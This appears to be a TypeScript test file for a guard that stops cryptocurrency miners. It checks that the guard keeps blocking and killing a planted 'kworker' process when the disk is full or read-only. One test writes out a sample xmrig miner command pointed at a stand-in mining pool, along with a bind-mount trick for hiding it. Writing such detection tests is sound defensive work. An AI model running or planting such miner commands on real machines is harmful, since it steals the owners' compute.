import assert from 'node:assert/strict'
import { test } from 'node:test'
import { skip, told } from './testing/guarded-place.ts'

const smallDisk = `
    mkdirSync('/mnt/state')
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=32m', 'none', '/mnt/state'])
    const fill = () => {
      try {
        for (;;) appendFileSync('/mnt/state/fill', Buffer.alloc(65_536))
      } catch {}
    }
    const until = async holds => {
      for (let turn = 0; !holds(); turn++, await wait(50)) if (turn > 1_200) throw new Error(JSON.stringify([detections, log]))
    }
    const another = async guard => {
      const before = guardPid()
      process.kill(before, 'SIGKILL')
      await until(() => guard.state().problem !== undefined)
      await ready(guard)
    }
    // A machine that is busy answers late at first, which is a yes; the judgement holds from then on.
    const denied = async path => {
      for (let turn = 0; turn < 5; turn++) if (await tried('exec timeout 2 ' + path) === 126) return true
      return false
    }
    const outcomes = () => detections.map(one => one.responses[0].kind + ' ' + one.responses[0].outcome)`

test('a full disk: no miner starts, what cannot be ended is told, and is ended when there is room again', {
  skip,
}, () => {
  const found = told(`${smallDisk}
    const guard = open({})
    await ready(guard)
    const path = plant('kworker')
    fill()
    const statuses = [await denied(path)]
    // What is allocated already still takes the first ones.
    for (let turn = 0; turn < 20 && !outcomes().includes('kill-process failed'); turn++) {
      const before = detections.length
      void tried(fromMemory(path))
      await until(() => detections.length > before)
    }
    const failed = detections.length - 1
    rmSync('/mnt/state/fill')
    await until(() => outcomes().includes('kill-process done', failed))
    fill()
    await another(guard)
    statuses.push(await denied(path))
    rmSync('/mnt/state/fill')
    const ended = tried(fromMemory(path))
    statuses.push(await ended)
    await guard.close()
    console.log(JSON.stringify({ statuses, detail: detections.find(one => one.responses[0].outcome === 'failed').responses[0].detail }))
    process.exit()`)
  assert.deepEqual(found['statuses'], [true, true, 'SIGKILL'])
  assert.match(String(found['detail']), /could not be written down: .*ENOSPC/)
})

test('a state that is read-only: a guard that begins on it keeps miners from starting all the same', { skip }, () => {
  const found = told(`${smallDisk}
    const before = open({})
    await ready(before)
    await before.close()
    execFileSync('mount', ['-o', 'remount,ro', '/mnt/state'])
    const guard = open({})
    await ready(guard)
    const path = plant('kworker')
    const statuses = [await denied(path), await tried('ls /')]
    execFileSync('mount', ['-o', 'remount,rw', '/mnt/state'])
    statuses.push(await tried(fromMemory(path)))
    await guard.close()
    console.log(JSON.stringify({ statuses, log }))
    process.exit()`)
  assert.deepEqual(found['statuses'], [true, 0, 'SIGKILL'], JSON.stringify(found))
})

test('nobody is ended for a file that has the name of his script somewhere else', { skip }, () => {
  const found = told(`
    const miner = 'sleep 30; ./xmrig -o stratum+tcp://pool.minexmr.example:4444 -u ' + wallet + ' -p x --donate-level 1'
    writeFileSync('/mnt/entry.sh', miner)
    writeFileSync('/mnt/honest.sh', 'sleep 2')
    const guard = open({})
    await ready(guard)
    const inContainer = 'unshare --mount --propagation private sh -c "mount --bind /mnt/honest.sh /mnt/entry.sh && exec sh /mnt/entry.sh"'
    const statuses = [await tried('exec ' + inContainer), await tried('exec sh /mnt/entry.sh')]
    await guard.close()
    console.log(JSON.stringify({ statuses, log, detections }))
    process.exit()`)
  assert.deepEqual(found['statuses'], [0, 'SIGKILL'], JSON.stringify(found))
})
